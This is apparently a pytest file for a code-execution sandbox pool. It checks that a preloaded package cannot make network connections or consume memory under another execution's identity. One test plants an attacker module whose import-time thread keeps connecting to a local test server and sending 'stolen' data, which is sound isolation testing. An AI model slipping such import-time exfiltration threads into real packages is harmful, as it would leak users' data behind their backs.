"""Attacks by code that is imported ahead of its call, on what another execution has meanwhile.

A success would be a connection that comes from the handler that nobody has called at that time: it
would be judged by the rules, and count as the traffic, of whichever execution runs then. (Node has
one thread, which waits for its call.) Or an execution that is killed for memory of the other's.
"""

from __future__ import annotations

import asyncio
import contextlib

import psutil
import pytest
from attacks import write_package

from sandbox import Call, Egress, Ending, Policy, Pool, PoolSettings

_ATTACKER = """
import socket, threading, time
def try_for_ever():
    while True:
        try:
            with socket.create_connection(("127.0.0.1", PORT), timeout=1) as one:
                one.sendall(b"stolen")
                one.recv(1)
        except OSError:
            time.sleep(0.005)
threading.Thread(target=try_for_ever, daemon=True).start()
def handle(input, ctx):
    time.sleep(0.05)
"""
_VICTIM = "import time\ndef handle(input, ctx):\n    time.sleep(1)\n"


@pytest.mark.slow
async def test_attack_what_is_imported_ahead_has_no_network(tmp_path):
    said = []

    async def hear(reader, writer):
        said.append(await reader.read(100))
        writer.close()

    server = await asyncio.start_server(hear, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    attacker = write_package(tmp_path / "a", _ATTACKER.replace("PORT", str(port)))
    victim = write_package(tmp_path / "v", _VICTIM)
    stealing = Call(attacker, policy=Policy(network=Egress()), preload=True)
    allowed = Policy(network=Egress(private=("127.0.0.0/8",)))
    async with server, Pool(PoolSettings(slots=1, ports=(port,))) as pool:
        if not {one.name: one for one in pool.layers()}["network"].available:
            pytest.skip("no network here")
        for _ in range(3):
            reply = await pool.run(stealing)
            assert reply.result is not None, reply
            assert reply.result["outcome"] == "success"
            await asyncio.sleep(0.3)  # time to be imported ahead
        reply = await pool.run(Call(victim, policy=allowed))
        assert reply.result is not None
        assert reply.traffic is not None
    assert said == []
    assert reply.traffic.contacts == ()


_HEAVY = """
data = bytearray(400 << 20)
for at in range(0, len(data), 4096):
    data[at] = 1
def handle(input, ctx):
    return len(data)
"""
_LATE = """
def handle(input, ctx):
    data = bytearray(450 << 20)
    for at in range(0, len(data), 4096):
        data[at] = 1
    return len(data)
"""


@pytest.mark.slow
async def test_attack_memory_of_what_is_imported_ahead_counts_for_no_other(tmp_path):
    heavy = write_package(tmp_path / "h", _HEAVY)
    victim = write_package(tmp_path / "v", _LATE)
    async with Pool(PoolSettings(slots=1)) as pool:
        if not {one.name: one for one in pool.layers()}["cgroup"].available:
            pytest.skip("no control groups here, so each process has its limits only")
        for package in (heavy, heavy, heavy, victim, heavy, victim):
            reply = await pool.run(Call(package, preload=package == heavy))
            assert reply.ending is Ending.RESULT, reply
            await _grown(pool, 400 << 20)


async def _grown(pool, size_bytes):
    """Until one that waits holds that much, or for so long that it is clear that none will."""
    await pool.idle()
    for _ in range(100):
        children = psutil.Process(pool.server_pids[0]).children(recursive=True)
        with contextlib.suppress(psutil.Error):
            if any(one.memory_info().rss > size_bytes for one in children):
                return
        await asyncio.sleep(0.01)
